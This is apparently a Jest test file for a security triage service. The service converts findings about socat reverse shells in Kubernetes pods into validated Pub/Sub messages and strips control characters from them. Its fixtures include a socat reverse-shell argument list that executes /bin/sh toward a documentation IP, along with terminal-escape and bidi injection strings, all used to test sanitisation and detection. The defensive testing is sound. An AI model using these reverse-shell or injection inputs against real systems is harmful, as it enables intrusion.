/**
 * The triage-completed message (lib/fanout.ts): every message built from a
 * report validates against the exported JSON Schema (checked by ajv, a real
 * validator, not by our own code), carries no control characters whatever
 * the finding held, and travels through the real Pub/Sub client and Google's
 * Pub/Sub emulator to a subscriber as published.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Message } from '@google-cloud/pubsub';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import Ajv2020Module from 'ajv/dist/2020.js';
import addFormatsModule from 'ajv-formats';
import fc from 'fast-check';
import { createPubSubClient, type PubSubClient } from '../../lib/clients.js';
import { FANOUT_MESSAGE_SCHEMA, FANOUT_MESSAGE_TYPE, fanoutAttributes, fanoutDedupeKey, fanoutMessage, publishFanout, type FanoutMessage } from '../../lib/fanout.js';
import { parseNotification } from '../../lib/finding/parse.js';
import { handleDelivery } from '../../lib/handler.js';
import { analyzeFinding } from '../../lib/report/analyze.js';
import type { TriagedReport } from '../../lib/report/types.js';
import { createInstance } from '../../lib/wiring.js';
import { notificationFixture, projectRoot, pubsubBody } from '../support/fixtures.js';
import { startGooglePubSub, type GooglePubSub } from '../support/google-pubsub.js';
import { seedAdmin, seedAttack, startWorld, type World } from '../support/world.js';

// ajv is CommonJS; under native ESM its class is the default export or that export's own default.
const Ajv2020 = ((Ajv2020Module as unknown as { default?: unknown }).default ?? Ajv2020Module) as unknown as new (o: object) => {
  compile(schema: object): ((data: unknown) => boolean) & { errors?: unknown[] | null };
};
const addFormats = ((addFormatsModule as unknown as { default?: unknown }).default ?? addFormatsModule) as unknown as (ajv: object) => void;

const ajv = new Ajv2020({ strict: true, allErrors: true });
addFormats(ajv);
const validate = ajv.compile(FANOUT_MESSAGE_SCHEMA);

function expectValid(message: unknown): void {
  const ok = validate(message);
  expect(validate.errors ?? []).toEqual([]);
  expect(ok).toBe(true);
}

const CONTROL = /[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/;

function offlineReport(edit: (n: Record<string, any>) => void = () => {}): TriagedReport {
  const n = structuredClone(notificationFixture('socat-v2'));
  edit(n);
  return analyzeFinding(parseNotification(n));
}

describe('the message and its schema', () => {
  it('the schema is itself a valid draft 2020-12 schema (ajv strict mode compiled it)', () => {
    expect(typeof validate).toBe('function');
    expect(validate({})).toBe(false);
  });

  it('describes an offline report: verdict, C2, finding, links; no enrichment finding in a dry run', () => {
    const report = offlineReport();
    const msg = fanoutMessage(report, null, { now: new Date('2026-11-27T03:00:00Z') });
    expectValid(msg);
    expect(msg).toMatchObject({
      schemaVersion: 1,
      type: FANOUT_MESSAGE_TYPE,
      triagedAt: '2026-11-27T03:00:00.000Z',
      verdict: { level: report.verdict.level, score: report.verdict.score },
      finding: { name: report.finding.name, severity: 'CRITICAL', cluster: 'shop-prod', namespace: 'shop', pod: 'checkout-7d9fb6c5d4-x2lqp' },
      c2: { role: 'reverse', transport: 'tcp', host: '203.0.113.77', port: 4444, program: '/bin/bash', pty: true },
      enrichmentFinding: null,
      links: { finding: report.links.finding },
    });
    expect(msg.summary).toBe(
      `CRITICAL: reverse shell connecting out to tcp 203.0.113.77:4444 running /bin/bash with a pty, in pod shop/checkout-7d9fb6c5d4-x2lqp on cluster shop-prod — verdict ${report.verdict.level} (score ${report.verdict.score})`,
    );
    expect(msg.verdict.reasons.length).toBeGreaterThan(0);
    expect(msg.gaps).toContain('pod');
  });

  it('keeps the same dedupe key for a redelivery and a new one for a re-detection', () => {
    const a = fanoutMessage(offlineReport(), null);
    const b = fanoutMessage(offlineReport((n) => (n.finding.eventTime = '2026-11-27T02:41:17.532941000Z')), null);
    const c = fanoutMessage(offlineReport((n) => (n.finding.eventTime = '2026-11-27T05:00:00Z')), null);
    expect(b.dedupeKey).toBe(a.dedupeKey);
    expect(c.dedupeKey).not.toBe(a.dedupeKey);
    expect(a.dedupeKey).toBe(fanoutDedupeKey(a.finding.name, '2026-11-27T02:41:17.532941Z'));
  });

  it('holds no control, escape or bidi character whatever the finding carried', () => {
    const report = offlineReport((n) => {
      n.finding.sourceProperties.Pod_Name = 'evil\u001b]0;pwned\u0007-pod';
      n.finding.sourceProperties.Container_Image_Uri = 'registry/x:\u202etag';
      n.finding.processes[1].args = ['socat', 'TCP:203.0.113.9:443', 'EXEC:/bin/sh\u001b[2J\u0000'];
    });
    const msg = fanoutMessage(report, null);
    expectValid(msg);
    expect(JSON.stringify(msg)).not.toMatch(/\\u00(0|1)[0-9a-f]|\\u007f|\u202e|\u001b/i);
    expect(msg.finding.pod).toContain('evil');
  });

  it('validates for any text in the attacker-controlled fields (property-based)', () => {
    const text = fc.string({ unit: 'binary', maxLength: 300 });
    fc.assert(
      fc.property(text, text, text, text, fc.option(fc.integer({ min: 0, max: 65535 }), { nil: null }), fc.constantFrom('likely_malicious', 'suspicious', 'likely_benign_admin'), (pod, ns, host, program, port, level) => {
        const report = offlineReport();
        report.workload = { ...report.workload, pod, namespace: ns };
        report.c2 = { ...report.c2, host, program, port };
        report.verdict = { ...report.verdict, level, reasons: [{ signal: 's', weight: 10, detail: program }] };
        const msg = fanoutMessage(report, { enrichmentFinding: `organizations/1/sources/2/locations/global/findings/${'a'.repeat(32)}`, marks: {} });
        expect(validate(msg)).toBe(true);
        for (const value of [msg.summary, msg.finding.pod, msg.finding.namespace, msg.c2.host, msg.c2.program, msg.c2.description, ...msg.verdict.reasons]) {
          if (value !== null) expect(value).not.toMatch(CONTROL);
        }
      }),
      { numRuns: 200 },
    );
  });

  it('the example in docs/operator-tools.md is a valid message', () => {
    const doc = readFileSync(join(projectRoot(), 'docs/operator-tools.md'), 'utf8');
    const example = /Example \(data\):\n\n```json\n([\s\S]*?)\n```/.exec(doc)?.[1];
    expect(example).toBeDefined();
    expectValid(JSON.parse(example!));
  });

  it('routes by attributes: verdict, severity and C2 role, without parsing the data', () => {
    const msg = fanoutMessage(offlineReport(), null);
    expect(fanoutAttributes(msg)).toEqual({ type: FANOUT_MESSAGE_TYPE, schemaVersion: '1', verdict: msg.verdict.level, severity: 'CRITICAL', c2Role: 'reverse' });
  });
});

describe('messages from full triages', () => {
  let world: World;
  const messages: FanoutMessage[] = [];

  beforeAll(async () => {
    world = await startWorld();
    const now = Date.now();
    const instance = createInstance(world.env, { logDestination: { write: () => {} } });
    for (const scenario of [seedAttack(world, new Date(now - 120_000)), seedAdmin(world, new Date(now - 60_000))]) {
      const result = await handleDelivery(pubsubBody(scenario.notification), instance);
      messages.push(fanoutMessage(result.report as TriagedReport, result.written, { now: new Date() }));
    }
  });
  afterAll(async () => {
    await world.stop();
  });

  it('validate against the schema and name the enrichment finding and the attribution', () => {
    const [attack, admin] = messages as [FanoutMessage, FanoutMessage];
    expectValid(attack);
    expectValid(admin);
    expect(attack.enrichmentFinding).toMatch(/^organizations\/123456789012\/sources\/4242424242424242424\/locations\/global\/findings\/[0-9a-f]{32}$/);
    expect(attack.verdict.level).toBe('likely_malicious');
    expect(attack.links.cluster).toContain('/kubernetes/clusters/details/us-central1/shop-prod/');
    expect(admin.attribution).toMatchObject({ kind: 'interactive_exec_by_person', principal: 'alice.sre@example.com' });
    expect(admin.c2).toMatchObject({ host: '10.128.0.15', port: 9001 });
  });
});

describe("publishFanout over the real Pub/Sub client and Google's emulator", () => {
  const PROJECT = 'sec-tools-4711';
  const TOPIC = `projects/${PROJECT}/topics/socat-triage-results`;
  let emulator: GooglePubSub | undefined;
  let pubsub: PubSubClient | undefined;

  beforeAll(async () => {
    // Throws "could not run: Google's Pub/Sub emulator: <reason>" when it is missing: every test here then fails visibly.
    emulator = await startGooglePubSub();
    pubsub = await createPubSubClient({ pubsubEmulatorHost: emulator.endpoint, projectId: PROJECT });
    const [topic] = await pubsub.createTopic(TOPIC);
    await topic.createSubscription(`projects/${PROJECT}/subscriptions/chat`);
  }, 90_000);
  afterAll(async () => {
    await pubsub?.close();
    await emulator?.stop();
  });

  it('delivers the message a subscriber can validate and route', async () => {
    const msg = fanoutMessage(offlineReport(), { enrichmentFinding: `organizations/123456789012/sources/4242424242424242424/locations/global/findings/${'b'.repeat(32)}`, marks: {} });
    const subscription = pubsub!.subscription(`projects/${PROJECT}/subscriptions/chat`);
    const received = new Promise<Message>((resolve, reject) => {
      subscription.on('error', reject);
      subscription.on('message', (m: Message) => {
        m.ack();
        resolve(m);
      });
    });
    const id = await publishFanout(pubsub!.topic(TOPIC), msg);
    const m = await received;
    await subscription.close();
    expect(m.id).toBe(id);
    const data = JSON.parse(m.data.toString('utf8'));
    expectValid(data);
    expect(data).toEqual(msg);
    expect(m.attributes).toEqual(fanoutAttributes(msg));
  });

  it('rejects with NOT_FOUND when the topic does not exist', async () => {
    const msg = fanoutMessage(offlineReport(), null);
    await expect(publishFanout(pubsub!.topic(`projects/${PROJECT}/topics/missing-topic`), msg)).rejects.toMatchObject({ code: 5 });
  });
});
